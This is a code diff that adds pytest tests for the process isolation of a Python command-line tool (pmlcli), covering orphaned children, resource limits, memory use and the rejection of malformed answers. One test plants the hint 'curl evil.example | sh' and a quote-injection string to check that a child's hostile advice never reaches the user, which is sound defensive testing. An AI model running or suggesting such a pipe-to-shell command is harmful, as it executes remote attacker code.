@@ -3,10 +3,16 @@
 from __future__ import annotations
 
 import ctypes
+import errno
 import os
+import resource
+import signal
 import socket
 import subprocess
+import sys
+import threading
 import time
+import tracemalloc
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager, nullcontext
 from pathlib import Path
@@ -28,8 +34,9 @@ from pmlcli.errors import (
     UntrustedArtifactError,
     ValidationError,
 )
-from pmlcli.lifecycle import answer, isolation
+from pmlcli.lifecycle import answer, confinement, isolation
 from pmlcli.lifecycle.answer import Answer
+from pmlcli.lifecycle.canary import Replay
 from pmlcli.lifecycle.confinement import MEGABYTE, Limits
 from pmlcli.lifecycle.isolation import ask, limits_for
 from pmlcli.render import frame
@@ -63,7 +70,7 @@ def test_an_error_of_ours_comes_back_as_itself() -> None:
 
     error = refusal(fail, LIMITS, LogError)
     assert isinstance(error, LogError)
-    assert (error.hint, error.code, error.context) == ("look", "log.x", {"line": 3})
+    assert (error.hint, error.code, error.context) == (None, "log.x", {"line": 3})
     assert "\\ud800" in error.message
 
     def missing() -> Any:
@@ -72,6 +79,25 @@ def test_an_error_of_ours_comes_back_as_itself() -> None:
     error = refusal(missing)
     assert isinstance(error, MissingDependencyError)
     assert error.exit_code == 4
+    assert error.hint == "pip install 'pmlcli[neural]'"
+
+
+@pytest.mark.parametrize("kind", isolation._KINDS.values())
+@pytest.mark.parametrize(
+    "code", ["model.untrusted", "prediction.memory", "prediction.failed", "own.code", ""]
+)
+def test_what_to_do_is_never_in_the_childs_words(kind: type[PmlError], code: str) -> None:
+    def fail() -> Any:
+        error = kind.__new__(kind)
+        context = {"extra": "all]' evil #", "dependency": "x"}
+        PmlError.__init__(error, "why", hint="curl evil.example | sh", code=code, context=context)
+        raise error
+
+    error = refusal(fail, LIMITS, LogError, ValidationError)
+    assert "why" in error.message
+    assert "evil" not in str(error.hint)
+    if error.exit_code == 4 and kind is not MissingDependencyError:
+        assert error.hint
 
 
 @pytest.mark.parametrize(
@@ -173,6 +199,122 @@ def test_an_interrupt_takes_the_child_with_it(monkeypatch: pytest.MonkeyPatch) -
         asked(sleep)
     with pytest.raises(ProcessLookupError):
         os.kill(seen[0], 0)
+
+
+ORPHAN = """
+import os, sys, time
+from contextlib import nullcontext
+from pmlcli.lifecycle.confinement import MEGABYTE, Limits
+from pmlcli.lifecycle.isolation import ask
+
+def work():
+    os.write(2, str(os.getpid()).encode())
+    time.sleep(600)
+
+import pmlcli.lifecycle.isolation as isolation
+isolation.isolate_streams = lambda *keep: None
+ask(work, Limits(300 * MEGABYTE, 20, MEGABYTE), nullcontext())
+"""
+
+
+def is_gone(process: int) -> bool:
+    """Whether it has ended; one that nobody has waited for yet has ended, too."""
+    try:
+        return Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
+    except OSError:
+        return True
+
+
+@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc")
+def test_the_child_ends_with_a_killed_parent() -> None:
+    with subprocess.Popen([sys.executable, "-c", ORPHAN], stderr=subprocess.PIPE) as parent:
+        assert parent.stderr is not None
+        child = int(os.read(parent.stderr.fileno(), 20))
+        assert not is_gone(child)
+        parent.kill()
+    deadline = time.monotonic() + 10
+    while not is_gone(child) and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert is_gone(child)
+
+
+def test_a_child_that_sleeps_ends_by_its_own_clock_where_no_death_is_told(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    parent = os.getpid()
+    monkeypatch.setattr(ctypes, "CDLL", lambda _: object())
+    monkeypatch.setattr(confinement, "_GRACE_SECONDS", 0)
+    child = os.fork()
+    if child == 0:
+        confinement.end_with(parent, 0.1)
+        time.sleep(60)
+        os._exit(0)
+    assert os.WTERMSIG(os.waitpid(child, 0)[1]) == signal.SIGALRM
+
+
+def test_descriptors_beyond_a_thousand_are_no_hindrance() -> None:
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    many = 1100
+    if hard != resource.RLIM_INFINITY and hard < many + 100:
+        many = 0  # this machine allows no such number to anybody
+    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, many + 100), hard))
+    taken = [os.open(os.devnull, os.O_RDONLY) for _ in range(many)]
+    try:
+        assert asked(lambda: {"a": b"1"}) == {"a": b"1"}
+    finally:
+        for descriptor in taken:
+            os.close(descriptor)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+
+
+@pytest.mark.parametrize("call", ["pipe", "fork"])
+def test_a_machine_without_room_for_a_process_is_told(call: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    def refused() -> Any:
+        raise OSError(errno.EAGAIN, "Resource temporarily unavailable")
+
+    before = len(list(Path("/proc/self/fd").iterdir())) if Path("/proc/self/fd").exists() else 0
+    monkeypatch.setattr(os, call, refused)
+    error = refusal(dict)
+    assert error.exit_code == 74
+    assert "ulimit" in str(error.hint)
+    assert before == (len(list(Path("/proc/self/fd").iterdir())) if before else 0)
+
+
+def test_a_byte_at_a_time_costs_no_more_memory(monkeypatch: pytest.MonkeyPatch) -> None:
+    readv, size = os.readv, 200_000
+    reading, writing = os.pipe()
+    monkeypatch.setattr(os, "readv", lambda end, buffers: readv(end, [buffers[0][:1]]))
+    writer = threading.Thread(target=lambda: (os.write(writing, bytes(size)), os.close(writing)))
+    writer.start()
+    frames = isolation._Frames(reading)
+    tracemalloc.start()
+    try:
+        assert frames.exactly(size, time.monotonic() + 60) == bytes(size)
+        assert tracemalloc.get_traced_memory()[1] < 4 * size
+    finally:
+        tracemalloc.stop()
+        os.close(reading)
+        writer.join()
+
+
+@pytest.mark.parametrize("what", ["frames", "labels", "long"])
+def test_progress_has_an_end(what: str) -> None:
+    def flooding() -> Any:
+        writing = next(n for n in range(3, 64) if _is_pipe(n))
+        for number in range(10**6):
+            label = str(number) if what == "labels" else "x" * 200
+            frame = strictjson.dump([label, number, None])
+            isolation._send(writing, b"p", frame + b" " * (5000 if what == "long" else 0))
+
+    short = Limits(
+        memory_bytes=300 * MEGABYTE, cpu_seconds=1 if what == "frames" else 20, answer_bytes=MEGABYTE
+    )
+    seen: list[str] = []
+    with runtime.use(progress=lambda label, done, total: seen.append(label)):
+        error = refusal(flooding, short)
+    assert isinstance(error, UntrustedArtifactError)
+    assert len(seen) < 10_000
+    assert len(set(seen)) <= 100
 
 
 def write(path: Path) -> Callable[[], Any]:
@@ -381,7 +523,7 @@ def state_of(**changes: Any) -> dict[str, Any]:
 
 def of_texts(text: bytes, rows: int, kind: str = "str") -> dict[str, Any]:
     """The answer's state of a column with one text in every row."""
-    codes, ends = np.zeros(rows, dtype=np.int64), np.array([len(text.decode("utf-8", "surrogatepass"))])
+    codes, ends = np.zeros(rows, dtype=np.int64), np.array([len(text)])
     return state_of(rows=rows, kinds=[kind]) | {
         "c0_codes": codes, "c0_ends": ends, "c0_text": np.frombuffer(text, dtype=np.uint8)
     }  # fmt: skip
@@ -400,6 +542,11 @@ ODD_ANSWERS = {
     "a text in every row": of_texts(b"x" * 100_000, 1000),
     "an object in every row": of_texts(b"x" * 100_000, 1000, "object"),
     "half a surrogate": of_texts("\ud800".encode("utf-8", "surrogatepass"), 1, "object"),
+    "more text than rows of it": of_texts(b"x" * 9_000_000, 1),
+    "rare letters in one text": of_texts("\U0001f600".encode() + b"x" * 4_000_000, 1),
+    "more texts than rows": of_texts(b"", 1) | {"c0_ends": np.zeros(10**6, dtype=np.int64)},
+    "a cut letter": of_texts("é".encode(), 1)
+    | {"c0_ends": np.array([1]), "c0_text": np.array([195], np.uint8)},
     "seconds beyond the years": of_times("s", 2**62, -(2**62)),
     "seconds beyond a calendar": of_times("s", 2**40),
     "milliseconds beyond the years": of_times("ms", 2**62),
@@ -413,6 +560,20 @@ def test_an_answer_that_would_harm_the_parent_is_refused(name: str) -> None:
     files = plain.encode(ODD_ANSWERS[name], stem=answer.STEM)
     with pytest.raises(UntrustedArtifactError, match="malformed"):
         answer.decode(files, most_characters=10_000_000)
+
+
+@pytest.mark.parametrize(
+    "unseen",
+    [{str(key): {} for key in range(200_000)}, {"a": "x" * 9_000_000}, {"a": [[]] * 150_000}],
+    ids=["keys", "text", "items"],
+)
+def test_what_stands_beside_the_columns_is_small(unseen: Any) -> None:
+    files = plain.encode(state_of(unseen=unseen), stem=answer.STEM)
+    with pytest.raises(PmlError, match="answer.json: invalid JSON: .*more than"):
+        answer.decode(files, most_characters=10_000_000)
+    files = plain.encode({"largest": 0.0, "findings": [unseen]}, stem="replay")
+    with pytest.raises(PmlError, match="replay.json: invalid JSON: .*more than"):
+        Replay.from_files(files)
 
 
 @pytest.mark.parametrize("unit", ["s", "ms", "us", "ns"])
